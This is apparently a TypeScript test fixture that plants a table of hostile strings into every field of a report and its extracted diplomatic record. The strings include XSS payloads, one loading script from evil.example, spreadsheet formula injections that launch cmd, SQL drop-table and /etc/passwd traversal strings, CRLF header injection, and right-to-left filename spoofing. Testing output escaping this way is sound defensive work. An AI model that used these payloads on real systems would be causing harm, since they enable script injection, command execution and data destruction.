/** Hostile words, and a report with its record that has them wherever a report's words can stand. */
import { type DiplomaticRecord, makeHead, makeSpan, RECORD_SCHEMA, type Report, sha256 } from "../../src/record/index.ts"
import type { ReadReport } from "../../src/store/index.ts"

/** Words that would do harm where they are not taken as words. */
export const HOSTILE: Readonly<Record<string, string>> = Object.freeze({
  script: "<script>alert(1)</script>",
  "closing script": "</script><script src=//evil.example/x.js></script>",
  image: '"><img src=x onerror=alert(1)>',
  "single quote": "' onmouseover='alert(1)",
  svg: "<svg/onload=alert(1)>",
  style: "</style><style>*{background:url(//evil.example)}</style>",
  textarea: "</textarea><script>alert(1)</script>",
  title: "</title><script>alert(1)</script>",
  comment: "--><script>alert(1)</script><!--",
  entity: "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template would fall for
  template: "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
  javascript: "javascript:alert(1)",
  "javascript with a tab": "java\tscript:alert(1)",
  data: "data:text/html,<script>alert(1)</script>",
  "right to left": "Assad \u202egnp.exe\u202c of \u2066Syria",
  nul: "Khat\u0000tak",
  control: "Khat\u001b[31mtak\u0007\u009b",
  formula: '=HYPERLINK("http://evil.example","x")',
  "formula with plus": "+cmd|' /C calc'!A0",
  "formula with minus": "-2+3+cmd|' /C calc'!A0",
  "formula with at": "@SUM(1+9)*cmd|' /C calc'!A0",
  "formula after a blank": "\t=1+1",
  "formula in full width": "＝1+1",
  header: "Khattak\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
  path: "../../../../etc/passwd",
  "path in code": "..%2f..%2fetc%2fpasswd",
  sql: "Khattak'; drop table reports; --",
  "lone surrogate": "Khat\ud83dtak",
  long: "A".repeat(50_000),
  marks: `Z${"\u0335\u0353".repeat(300)}algo`,
})

/** The report and its record. */
export function plant(words: string, id: string): ReadReport {
  const text = `${words} met Ana Maria in ${words}. "${words}," ${words} said.`
  const report: Report = { id: `${id}-report`, publisher: words, url: words, title: words, published: "2024-06-04", text }
  const at = (part: string, from = 0) => {
    const start = text.indexOf(part, from)
    return makeSpan(text, start, start + part.length)
  }
  const record: DiplomaticRecord = {
    schema: RECORD_SCHEMA,
    report: makeHead(report, { language: "en" }),
    actors: [
      {
        id: "a1",
        kind: "person",
        name: words,
        country: "SYR",
        offices: [{ title: words, organization: words, status: "current", evidence: [at(words)], confidence: 0.9 }],
        mentions: [at(words)],
        confidence: 0.9,
      },
      { id: "a2", kind: "person", name: "Ana Maria", offices: [], mentions: [at("Ana Maria")], confidence: 0.9 },
    ],
    events: [
      {
        id: "e1",
        type: "meeting",
        status: "occurred",
        participants: [
          { actor: "a1", role: "participant", evidence: [at(words)], confidence: 0.9 },
          { actor: "a2", role: "participant", evidence: [at("Ana Maria")], confidence: 0.9 },
        ],
        place: { name: words, precision: "city", evidence: [at(words, words.length)] },
        time: { value: "2024-06-04", basis: "published", evidence: [at("met")] },
        topics: [at(words)],
        attribution: "narrator",
        evidence: [at("met")],
        confidence: 0.9,
      },
    ],
    tours: [],
    statements: [{ id: "s1", speaker: "a1", mode: "direct", content: [at(words, words.length + 20)], about: ["a2"], confidence: 0.9 }],
    ties: [],
    issues: [],
    producer: { version: "0.0.0", runtime: "wasm", model: sha256("model"), knowledge: sha256("knowledge") },
  }
  return { report, record }
}
